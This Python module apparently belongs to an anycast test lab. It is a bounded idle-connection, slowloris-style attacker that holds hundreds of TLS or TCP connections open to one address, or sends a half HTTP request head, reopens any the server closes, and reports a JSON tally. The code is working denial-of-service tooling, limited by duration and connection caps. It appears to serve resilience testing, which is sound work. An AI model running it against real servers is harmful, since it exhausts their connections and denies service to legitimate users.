"""A bounded idle-connection attacker: holds N TLS connections open to one address and
sends nothing on them, reopening any the server closes, then stops. Run it inside a client
namespace (`anycast-lab exec c-eu -- python -m probes.idle_tls ...`).

    python -m probes.idle_tls --address 203.0.113.53 --connections 530 --duration 12

Modes: `tls` completes the TLS handshake and then stays silent (the default), `tcp`
never starts the handshake, `head` sends half a request head and stops there.

Bounded: it stops after --duration seconds (at most 120) or after --max-tries connection
attempts, whichever comes first; a connection slot waits --reopen-s before trying again.
The certificate is not verified (an attacker would not). Prints one JSON summary:
attempts, connections established (TCP and TLS), refusals, server-side closes, the most
held at once.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import ssl
import sys
import time
from dataclasses import asdict, dataclass

MAX_CONNECTIONS = 2000
MAX_DURATION_S = 120.0
HALF_HEAD = b"POST /introspect HTTP/1.1\r\nHost: introspect.anycast.lab\r\nX-Slow: "


@dataclass
class Tally:
    tried: int = 0
    tcp_established: int = 0
    tls_established: int = 0
    refused: int = 0  # connect or handshake failed (reset, closed, timeout)
    closed_by_server: int = 0  # held, then the server closed it
    held_now: int = 0
    held_max: int = 0


def _context() -> ssl.SSLContext:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


async def _slot(address: str, port: int, mode: str, end: float, reopen_s: float,
                max_tries: int, tally: Tally, ctx: ssl.SSLContext) -> None:
    while time.monotonic() < end and tally.tried < max_tries:
        tally.tried += 1
        held = False
        writer = None
        try:
            left = max(0.1, end - time.monotonic())
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(address, port), timeout=min(5.0, left))
            tally.tcp_established += 1
            if mode != "tcp":
                await asyncio.wait_for(writer.start_tls(ctx, server_hostname=None),
                                       timeout=min(5.0, max(0.1, end - time.monotonic())))
                tally.tls_established += 1
            if mode == "head":
                writer.write(HALF_HEAD)
                await writer.drain()
            held = True
            tally.held_now += 1
            tally.held_max = max(tally.held_max, tally.held_now)
            left = end - time.monotonic()
            if left > 0:
                # Returns when the server closes (EOF, reset) or sends anything.
                await asyncio.wait_for(reader.read(65536), timeout=left)
                tally.closed_by_server += 1
        except TimeoutError:
            pass  # our own deadline: still held, or a connect/handshake that hung
        except (OSError, ssl.SSLError, EOFError):
            if held:
                tally.closed_by_server += 1
            else:
                tally.refused += 1
        finally:
            if held:
                tally.held_now -= 1
            if writer is not None:
                writer.transport.abort()
        if time.monotonic() < end:
            await asyncio.sleep(reopen_s)


async def attack(address: str, port: int, connections: int, duration_s: float, mode: str,
                 reopen_s: float, max_tries: int) -> Tally:
    tally = Tally()
    ctx = _context()  # once: loading the CA store takes tens of ms, blocking the loop
    end = time.monotonic() + duration_s
    await asyncio.gather(*(_slot(address, port, mode, end, reopen_s, max_tries, tally, ctx)
                           for _ in range(connections)))
    return tally


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--address", required=True)
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--connections", type=int, default=530)
    parser.add_argument("--duration", type=float, default=12.0)
    parser.add_argument("--mode", choices=["tls", "tcp", "head"], default="tls")
    parser.add_argument("--reopen-s", type=float, default=0.5)
    parser.add_argument("--max-tries", type=int, default=20_000)
    args = parser.parse_args()
    if not 1 <= args.connections <= MAX_CONNECTIONS:
        parser.error(f"--connections must be 1..{MAX_CONNECTIONS}")
    if not 0 < args.duration <= MAX_DURATION_S:
        parser.error(f"--duration must be above 0 and at most {MAX_DURATION_S:.0f} s")
    if not 0.01 <= args.reopen_s <= 60 or not 1 <= args.max_tries <= 1_000_000:
        parser.error("--reopen-s must be 0.01..60 and --max-tries 1..1000000")
    started = time.monotonic()
    tally = asyncio.run(attack(args.address, args.port, args.connections, args.duration,
                               args.mode, args.reopen_s, args.max_tries))
    summary = asdict(tally)
    del summary["held_now"]
    summary["elapsed_s"] = round(time.monotonic() - started, 3)
    sys.stdout.write(json.dumps(summary) + "\n")


if __name__ == "__main__":
    main()
